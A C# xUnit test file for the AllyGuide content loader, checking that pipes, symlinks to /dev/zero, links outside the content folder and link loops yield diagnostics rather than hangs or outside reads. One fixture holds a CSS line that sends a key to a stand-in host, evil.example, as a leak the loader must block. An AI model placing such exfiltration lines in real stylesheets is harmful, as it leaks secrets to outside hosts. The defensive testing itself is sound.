using System.Diagnostics;
using AllyGuide.Loading;
using AllyGuide.Rendering;
using AllyGuide.Tests.Infrastructure;

namespace AllyGuide.Tests.Loading;

/// <summary>
/// Files that are not plain files inside the content folder: pipes, devices, links out and links in loops. Each is a
/// located diagnostic within seconds, never a hang, an endless read or a file from outside the folder.
/// </summary>
public sealed class SpecialFileTests
{
    /// <summary>Runs <paramref name="work"/> with a bound, so a regression hangs one test for seconds, not the suite forever.</summary>
    private static T Within<T>(TimeSpan limit, Func<T> work)
    {
        T result = default!;
        var thread = new Thread(() => result = work()) { IsBackground = true };
        thread.Start();
        Assert.True(thread.Join(limit), $"Still running after {limit.TotalSeconds} s.");
        return result;
    }

    [Fact]
    public void A_pipe_where_a_topic_should_be_is_reported_without_waiting_for_a_writer()
    {
        using var fixture = new ContentFixture();
        var pipe = Path.Combine(fixture.Root, "en", "topics", "beta.yaml");
        File.Delete(pipe);
        using (var mkfifo = Process.Start("mkfifo", [pipe])!)
        {
            Assert.True(mkfifo.WaitForExit(10_000));
            Assert.Equal(0, mkfifo.ExitCode);
        }

        var diagnostics = Within(TimeSpan.FromSeconds(30), () => Guide.Validate(fixture.Source, fixture.Options));

        Assert.Contains(diagnostics, d => d.Code == "AG0008" && d.FilePath.EndsWith("beta.yaml", StringComparison.Ordinal));
    }

    [Fact]
    public void A_link_to_an_endless_device_is_not_followed()
    {
        using var fixture = new ContentFixture();
        var topic = Path.Combine(fixture.Root, "en", "topics", "beta.yaml");
        File.Delete(topic);
        File.CreateSymbolicLink(topic, "/dev/zero");
        var clock = Stopwatch.StartNew();

        var diagnostics = Within(TimeSpan.FromSeconds(30), () => Guide.Validate(fixture.Source, fixture.Options));

        Assert.Contains(diagnostics, d => d.Code == "AG0043" && d.Message.Contains("/dev/zero", StringComparison.Ordinal));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"took {clock.Elapsed}");
    }

    [Fact]
    public void A_file_linked_from_outside_is_neither_read_nor_published()
    {
        using var fixture = new ContentFixture();
        using var outside = new TempDirectory();
        var secret = outside.Combine("secret.css");
        File.WriteAllText(secret, "body { background: url(https://evil.example/?key=SECRET) }");
        Directory.CreateDirectory(Path.Combine(fixture.Root, "templates", "assets"));
        File.CreateSymbolicLink(Path.Combine(fixture.Root, "templates", "assets", "leak.css"), secret);
        var folder = ContentFolder.FromDirectory(fixture.Root);

        Assert.DoesNotContain("assets/leak.css", folder.Templates.Assets.Keys);
        Assert.Contains(folder.Templates.Diagnostics, d => d.Code == "AG0043" && d.FilePath.EndsWith("leak.css", StringComparison.Ordinal));
        Assert.Throws<GuideTemplateException>(() => folder.CreateRenderer());
    }

    [Fact]
    public void A_linked_folder_with_dotfiles_outside_is_not_followed()
    {
        using var fixture = new ContentFixture();
        using var outside = new TempDirectory();
        File.WriteAllText(outside.Combine(".env"), "SECRET=1");
        File.WriteAllText(outside.Combine("style.css"), "p { }");
        Directory.CreateSymbolicLink(Path.Combine(fixture.Root, "templates"), outside.Path);

        var templates = ContentFolder.FromDirectory(fixture.Root).Templates;

        Assert.DoesNotContain(templates.Assets.Keys, k => k.Contains("env", StringComparison.Ordinal) || k.Contains("style", StringComparison.Ordinal));
        Assert.Contains(templates.Diagnostics, d => d.Code == "AG0043");
    }

    [Fact]
    public void Ten_folder_links_in_a_loop_are_reported_quickly_and_publish_nothing_twice()
    {
        using var fixture = new ContentFixture();
        var templates = Path.Combine(fixture.Root, "templates");
        Directory.CreateDirectory(Path.Combine(templates, "assets"));
        File.WriteAllText(Path.Combine(templates, "assets", "extra.css"), "p { }");
        for (var i = 1; i <= 10; i++)
        {
            Directory.CreateSymbolicLink(Path.Combine(templates, $"l{i}"), ".");
        }

        var clock = Stopwatch.StartNew();
        var folder = ContentFolder.FromDirectory(fixture.Root);
        var diagnostics = Within(TimeSpan.FromSeconds(60), () => folder.Validate(fixture.Options));

        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"took {clock.Elapsed}");
        Assert.Equal(10, diagnostics.Count(d => d.Code == "AG0043"));
        Assert.Equal(["assets/extra.css", "assets/favicon.svg", "assets/search.js", "assets/site.css"], folder.Templates.Assets.Keys.Order(StringComparer.Ordinal));
    }

    [Fact]
    public void A_content_folder_reached_through_a_link_is_read_as_usual()
    {
        using var fixture = new ContentFixture();
        using var temp = new TempDirectory();
        var link = temp.Combine("content");
        Directory.CreateSymbolicLink(link, fixture.Root);

        var diagnostics = Guide.Validate(ContentSource.FromDirectory(link), fixture.Options);

        Assert.DoesNotContain(diagnostics, d => d.IsError);
    }
}
